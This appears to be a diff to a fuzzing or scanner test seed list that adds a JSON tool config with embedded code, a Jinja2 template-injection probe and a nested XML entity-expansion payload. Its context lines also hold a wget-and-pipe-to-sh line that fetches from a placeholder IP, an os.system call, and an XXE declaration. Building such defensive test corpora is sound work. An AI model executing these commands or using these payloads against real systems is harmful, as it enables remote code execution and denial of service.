@@ -27,6 +27,9 @@ def seeds() -> list[bytes]:
         b"a.sh\n#!/bin/sh\nwget http://192.0.2.1/x -O y\nsh y \\\n | sh\n",
         b"a.py\n# coding: utf-7\nimport os\nos.system('id')\n",
         b"README.md\n---\nlicense: mit\n---\n",
+        b'tool.json\n{"provider": "a.B", "config": {"source_code": "x = 1", "global_imports": []}}',
+        b'p.json\n{"template_format": "jinja2", "template": "{{ a.__class__ }}", "type": "code"}',
+        b"a.xml\n<!DOCTYPE a [<!ENTITY b '&c;&c;'><!ENTITY c 'd'>]><a>&b;</a>",
         b"a.xml\n<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'y'>]>",
     ]
 
